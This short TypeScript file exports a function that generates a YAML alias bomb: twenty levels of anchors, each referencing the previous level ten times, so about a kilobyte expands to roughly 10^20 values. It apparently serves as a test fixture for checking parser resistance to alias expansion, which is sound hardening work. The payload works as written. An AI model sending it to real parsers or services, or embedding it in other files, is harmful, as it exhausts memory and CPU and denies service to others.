// A YAML bomb.

/** Aliases of aliases: a kilobyte that stands for 10^20 values. */
export function aliasBomb(): string {
  const uses = (level: number): string =>
    level === 0
      ? "x"
      : Array<string>(10)
          .fill(`*a${level - 1}`)
          .join(", ");
  return Array.from({ length: 20 }, (_, level) => `a${level}: &a${level} [${uses(level)}]`).join("\n");
}
